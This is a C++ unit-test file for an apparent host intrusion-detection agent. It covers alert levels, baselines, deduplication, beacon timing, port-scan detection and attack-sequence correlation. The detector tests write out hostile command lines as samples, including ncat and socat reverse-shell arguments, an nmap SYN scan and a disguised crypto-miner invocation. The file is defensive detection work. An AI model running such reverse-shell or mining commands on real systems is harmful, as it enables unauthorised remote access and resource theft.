#include "vigil/agent/awareness.h"

#include <gtest/gtest.h>

#include <fstream>
#include <random>

#include "util/records.h"
#include "util/test_util.h"
#include "vigil/agent/pipeline.h"

namespace vigil::agent {
namespace {

// ------------------------------------------------------------------ level

TEST(LevelTracker, ClimbsAtUpThresholdsNotBelow) {
  LevelTracker t;  // up: 40 / 120 / 300
  EXPECT_FALSE(t.observe(0, 39));
  EXPECT_EQ(t.level(), Level::kCalm);
  auto c = t.observe(0, 1);  // below min_score: no pressure added
  EXPECT_FALSE(c);
  c = t.observe(0, 20);  // 59 >= 40
  ASSERT_TRUE(c);
  EXPECT_EQ(c->from, Level::kCalm);
  EXPECT_EQ(c->to, Level::kAttentive);
  EXPECT_EQ(t.level(), Level::kAttentive);
}

TEST(LevelTracker, JumpsStraightToTheJustifiedLevel) {
  LevelTracker t;
  for (int i = 0; i < 4; ++i) {
    (void)t.observe(0, 80);  // 320 total
  }
  EXPECT_EQ(t.level(), Level::kCritical);
}

TEST(LevelTracker, HysteresisHoldsBetweenDownAndUp) {
  LevelConfig cfg;
  cfg.min_dwell_s = 0;
  cfg.half_life_s = 10;
  LevelTracker t(cfg);
  (void)t.observe(0, 50);  // attentive at 50
  ASSERT_EQ(t.level(), Level::kAttentive);
  // After 10 s pressure halves to 25: below up (40) but above down (15): stays.
  EXPECT_FALSE(t.tick(10));
  EXPECT_EQ(t.level(), Level::kAttentive);
  // After 20 s more it is 6.25 < 15: steps down.
  auto c = t.tick(30);
  ASSERT_TRUE(c);
  EXPECT_EQ(c->to, Level::kCalm);
}

TEST(LevelTracker, MinimumDwellPreventsFlapping) {
  LevelConfig cfg;
  cfg.min_dwell_s = 60;
  cfg.half_life_s = 1;
  LevelTracker t(cfg);
  (void)t.observe(0, 50);
  EXPECT_FALSE(t.tick(30)) << "pressure is gone but the dwell time is not over";
  EXPECT_EQ(t.level(), Level::kAttentive);
  EXPECT_TRUE(t.tick(61));
  EXPECT_EQ(t.level(), Level::kCalm);
}

TEST(LevelTracker, StepsDownOneLevelAtATime) {
  LevelConfig cfg;
  cfg.min_dwell_s = 5;
  cfg.half_life_s = 1;
  LevelTracker t(cfg);
  (void)t.observe(0, 100);
  (void)t.observe(0, 100);
  (void)t.observe(0, 100);
  ASSERT_EQ(t.level(), Level::kCritical);
  EXPECT_EQ(t.tick(100)->to, Level::kAlert);
  EXPECT_EQ(t.level(), Level::kAlert);
  EXPECT_FALSE(t.tick(101)) << "dwell restarts in each level";
  EXPECT_EQ(t.tick(106)->to, Level::kAttentive);
  EXPECT_EQ(t.tick(112)->to, Level::kCalm);
}

// ------------------------------------------------------------------ focus

TEST(AttentionFocus, DecaysAndIsBounded) {
  AttentionFocus f(2, /*half_life_s=*/10, /*min_weight=*/10);
  f.add(1, 40, 0);
  EXPECT_TRUE(f.in_focus(1, 0));
  EXPECT_TRUE(f.in_focus(1, 19));   // 40 -> ~10.7
  EXPECT_FALSE(f.in_focus(1, 25));  // ~7
  EXPECT_FALSE(f.in_focus(2, 0));
  f.add(2, 100, 30);
  f.add(3, 100, 30);  // full: the weakest (1) goes
  EXPECT_EQ(f.size(), 2U);
  EXPECT_TRUE(f.in_focus(2, 30));
  EXPECT_TRUE(f.in_focus(3, 30));
}

// ------------------------------------------------------------------ baseline

TEST(Baseline, LearnsSilentlyDuringWarmupThenFlagsNovelty) {
  Baseline b({.capacity = 100, .warmup_s = 100, .max_age_s = 1000});
  EXPECT_FALSE(b.observe("bash>ls", 1000));  // warm-up starts
  EXPECT_FALSE(b.observe("bash>cat", 1050));
  EXPECT_FALSE(b.observe("bash>ls", 1200));  // known
  EXPECT_TRUE(b.observe("httpd>sh", 1200));  // new after warm-up
  EXPECT_FALSE(b.observe("httpd>sh", 1201)) << "novel once";
}

TEST(Baseline, AgesOutAndIsBounded) {
  Baseline b({.capacity = 2, .warmup_s = 0, .max_age_s = 100});
  (void)b.observe("a", 1);
  (void)b.observe("b", 2);
  (void)b.observe("c", 3);  // evicts a (least recent)
  EXPECT_EQ(b.size(), 2U);
  EXPECT_FALSE(b.contains("a"));
  EXPECT_TRUE(b.observe("b", 500)) << "not seen for longer than max_age: novel again";
}

TEST(Baseline, SurvivesSaveAndLoadWithHostileKeys) {
  test::TempDir dir;
  const auto path = dir.path() / "baseline.tsv";
  Baseline b({.capacity = 10, .warmup_s = 50, .max_age_s = 1000});
  (void)b.observe("/usr/bin/a\tb>/tmp/x\ny%", 100);
  (void)b.observe("/usr/sbin/nginx>/usr/bin/dash", 110);
  ASSERT_OK(b.save(path));

  Baseline r({.capacity = 10, .warmup_s = 50, .max_age_s = 1000});
  ASSERT_OK(r.load(path, 200));
  EXPECT_EQ(r.size(), 2U);
  EXPECT_TRUE(r.contains("/usr/bin/a\tb>/tmp/x\ny%"));
  EXPECT_FALSE(r.warming_up(200)) << "warm-up start survives a restart";
  EXPECT_FALSE(r.observe("/usr/sbin/nginx>/usr/bin/dash", 210)) << "a restart does not forget";
}

TEST(Baseline, MalformedFileIsAClearError) {
  test::TempDir dir;
  const auto path = dir.path() / "baseline.tsv";
  std::ofstream(path) << "started\t1\n12\tok\nno-tab-here\n";
  Baseline b;
  auto r = b.load(path, 100);
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find(":3:"), std::string::npos) << r.error().message;
  Baseline missing;
  EXPECT_OK(missing.load(dir.path() / "nope.tsv", 1));
}

// ------------------------------------------------------------------ dedupe

TEST(AlertDeduper, OneIncidentPerEntityAndIndicatorPerWindow) {
  AlertDeduper d(60);
  auto first = d.observe(10, "ptrace-attach", 0);
  EXPECT_TRUE(first.emit);
  for (int i = 1; i <= 5; ++i) {
    auto again = d.observe(10, "ptrace-attach", i);
    EXPECT_FALSE(again.emit);
    EXPECT_EQ(again.id, first.id);
  }
  EXPECT_TRUE(d.observe(10, "ptrace-write", 6).emit) << "another indicator is another incident";
  EXPECT_TRUE(d.observe(11, "ptrace-attach", 6).emit) << "another entity too";
  std::vector<AlertDeduper::Closed> closed;
  d.close_expired(59, [&](auto c) { closed.push_back(c); });
  EXPECT_TRUE(closed.empty());
  d.close_expired(61, [&](auto c) { closed.push_back(c); });
  ASSERT_EQ(closed.size(), 1U) << "only incidents with repeats are reported";
  EXPECT_EQ(closed[0].id, first.id);
  EXPECT_EQ(closed[0].count, 6U);
  EXPECT_TRUE(d.observe(10, "ptrace-attach", 62).emit) << "a new window opens a new incident";
  EXPECT_EQ(d.suppressed(), 5U);
}

// ------------------------------------------------------------------ in the pipeline

TEST(PipelineAwareness, RepeatedAttacksFoldAndRaiseTheLevel) {
  test::TempDir dir;
  ProcessTable table(100, "");
  Pipeline p("h", table, 0, baseline_model());
  auto sink = LineSink::open((dir.path() / "alerts").string());
  ASSERT_OK(sink);
  p.set_alerts(std::move(*sink), OutputFormat::kJson, 50);
  for (int i = 0; i < 10; ++i) {
    vigil_ptrace rec{};
    test::fill_hdr(rec.hdr, VIGIL_EV_PTRACE, sizeof(rec), 300);
    rec.hdr.ts_ns = 1'000'000'000ULL * (100 + i);
    rec.request = 16;
    rec.target_pid = 400;
    p.on_record(test::bytes_of(rec));
  }
  p.on_batch_end();
  EXPECT_EQ(p.stats().alerts, 1U);
  EXPECT_EQ(p.stats().alerts_suppressed, 9U);
  EXPECT_NE(p.level(), Level::kCalm) << "ten high scores raise the host level";
  EXPECT_GE(p.stats().level_changes, 1U);
  p.on_tick(100 + 61);
  std::ifstream in(dir.path() / "alerts");
  std::string all((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_NE(all.find("\"type\":\"level\",\"from\":\"calm\""), std::string::npos) << all;
  EXPECT_NE(all.find("\"type\":\"incident\""), std::string::npos) << all;
  EXPECT_NE(all.find("\"count\":10"), std::string::npos) << all;
}

}  // namespace
}  // namespace vigil::agent

namespace vigil::agent {
namespace {

TEST(Rhythm, JitteredBeaconIsDetectedAfterAFewPeriods) {
  RhythmTracker r;
  std::mt19937 rng(1);
  std::uniform_real_distribution<double> jitter(-0.4, 0.4);  // 2 s +- 20 %
  double t = 100;
  double period = 0;
  int contacts = 0;
  while (period == 0 && contacts < 20) {
    period = r.observe("/tmp/implant>10.0.0.9:443", t);
    t += 2.0 + jitter(rng);
    ++contacts;
  }
  EXPECT_EQ(contacts, 6);  // first contact + five intervals
  EXPECT_NEAR(period, 2.0, 0.3);
}

TEST(Rhythm, IrregularTrafficIsNotABeacon) {
  RhythmTracker r;
  std::mt19937 rng(2);
  std::exponential_distribution<double> gap(1.0 / 3.0);  // Poisson, mean 3 s
  double t = 0;
  int detections = 0;
  for (int i = 0; i < 200; ++i) {
    t += 0.5 + gap(rng);
    detections += r.observe("/usr/bin/curl>93.184.216.34:443", t) > 0 ? 1 : 0;
  }
  EXPECT_LE(detections, 2);  // CV ~ 0.9: at most a rare chance run
}

TEST(Rhythm, BurstsResetAndMemoryIsBounded) {
  RhythmTracker r({.capacity = 3});
  for (int i = 0; i < 5; ++i) EXPECT_EQ(r.observe("k", i * 2.0), 0);
  EXPECT_EQ(r.observe("k", 8.01), 0);  // a burst (< 0.5 s apart) breaks the rhythm...
  EXPECT_EQ(r.observe("k", 10.0), 0);  // ...and counting starts over
  for (const char* k : {"a", "b", "c", "d"}) r.observe(k, 1);
  EXPECT_EQ(r.size(), 3U);
}

}  // namespace
}  // namespace vigil::agent

namespace vigil::agent {
namespace {

TEST(ConnectScan, ManyDistinctRefusedPortsFromOneProcessOncePerWindow) {
  ConnectScanTracker t(20, 10, 100);
  int reports = 0;
  for (int port = 1; port <= 40; ++port) {
    reports += t.observe(7, static_cast<std::uint16_t>(port), 1.0 + port * 0.01) ? 1 : 0;
  }
  EXPECT_EQ(reports, 1);
  // Retries of one port are not a scan.
  for (int i = 0; i < 50; ++i) EXPECT_FALSE(t.observe(8, 443, 1.0 + i * 0.01));
  // Spread over more than the window: no scan.
  for (int port = 1; port <= 25; ++port) {
    EXPECT_FALSE(t.observe(9, static_cast<std::uint16_t>(port), port * 11.0));
  }
}

TEST(OffensiveTools, NamesAndTelltaleArguments) {
  EXPECT_TRUE(looks_offensive("/usr/bin/nmap", std::vector<std::string>{"nmap", "-sS"}));
  EXPECT_TRUE(looks_offensive("/usr/bin/ncat", std::vector<std::string>{"ncat", "-e", "/bin/sh"}));
  EXPECT_FALSE(looks_offensive("/usr/bin/ncat", std::vector<std::string>{"ncat", "-l", "8080"}));
  EXPECT_TRUE(looks_offensive("/usr/bin/socat",
                              std::vector<std::string>{"socat", "tcp:1.2.3.4:9", "exec:/bin/sh"}));
  EXPECT_TRUE(looks_offensive(
      "/tmp/kworker", std::vector<std::string>{"kworker", "-o", "stratum+tcp://pool:3333"}));
  EXPECT_FALSE(looks_offensive("/usr/bin/grep", std::vector<std::string>{"grep", "-e", "x"}));
}

TEST(Sequences, DroppedFileRunByTheSameTreeWithinTheWindow) {
  SequenceTracker seq(120);
  const std::vector<std::uint32_t> same_tree = {30, 10, 1};  // exec'ing pid, the shell, init
  const std::vector<std::uint32_t> other_tree = {31, 11, 1};
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/x", same_tree, 1)) << "no chmod yet";
  seq.made_executable("/tmp/x", 20, 10, 0);  // `chmod +x /tmp/x` run by the shell 10
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/y", same_tree, 5)) << "another file";
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/x", other_tree, 5)) << "another tree";
  EXPECT_TRUE(seq.exec_of_dropped("/tmp/x", same_tree, 5));
  EXPECT_TRUE(seq.exec_of_dropped("/tmp/x", std::vector<std::uint32_t>{20}, 5))
      << "the process that ran chmod may exec it itself";
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/x", same_tree, 121)) << "outside the window";

  // Stages recorded against init (pid 1) match nothing: everyone descends from it.
  seq.made_executable("/tmp/z", 1, 0, 200);
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/z", other_tree, 201));

  SequenceTracker small(120, 2);
  small.made_executable("/tmp/a", 20, 10, 0);
  small.made_executable("/tmp/b", 20, 10, 0);
  small.made_executable("/tmp/c", 20, 10, 0);
  EXPECT_FALSE(small.exec_of_dropped("/tmp/a", same_tree, 1)) << "bounded: the oldest went";
  EXPECT_TRUE(small.exec_of_dropped("/tmp/c", same_tree, 1));
}

TEST(Sequences, RecentOutboundConnectionsAreRememberedBriefly) {
  SequenceTracker seq(120, 2);
  EXPECT_FALSE(seq.recently_connected(7, 0));
  seq.connected_out(7, 10);
  EXPECT_TRUE(seq.recently_connected(7, 20));
  EXPECT_FALSE(seq.recently_connected(7, 41)) << "older than 30 s";
  EXPECT_FALSE(seq.recently_connected(8, 20));
  seq.connected_out(8, 300);
  seq.connected_out(9, 300);  // full: entries outside the window make room
  EXPECT_TRUE(seq.recently_connected(9, 301));
  EXPECT_TRUE(seq.recently_connected(8, 301));
}

TEST(Sequences, ScanThenConnectThenExecInOneTreeIsOneFinding) {
  SequenceTracker seq(120);
  const std::vector<std::uint32_t> scanner_sibling = {21, 10, 1};
  const std::vector<std::uint32_t> later_child = {22, 10, 1};
  seq.connected(scanner_sibling, 0);
  EXPECT_FALSE(seq.watching_connects()) << "a connect without a scan before it is nothing";
  seq.scanned(20, 10, 1);  // the scanner, child of the script 10
  EXPECT_TRUE(seq.watching_scans());
  EXPECT_FALSE(seq.exec_after_scan_connect(later_child, 2)) << "scan -> exec lacks the connect";
  seq.connected(std::vector<std::uint32_t>{40, 11, 1}, 3);  // another tree connects
  EXPECT_FALSE(seq.watching_connects());
  seq.connected(scanner_sibling, 4);  // the script's next tool connects
  EXPECT_TRUE(seq.exec_after_scan_connect(later_child, 5));
  EXPECT_FALSE(seq.exec_after_scan_connect(later_child, 6)) << "one finding, not one per exec";

  seq.scanned(50, 12, 10);
  seq.connected(std::vector<std::uint32_t>{51, 12}, 200);
  EXPECT_FALSE(seq.watching_connects()) << "the scan expired before the connect";
}

}  // namespace
}  // namespace vigil::agent
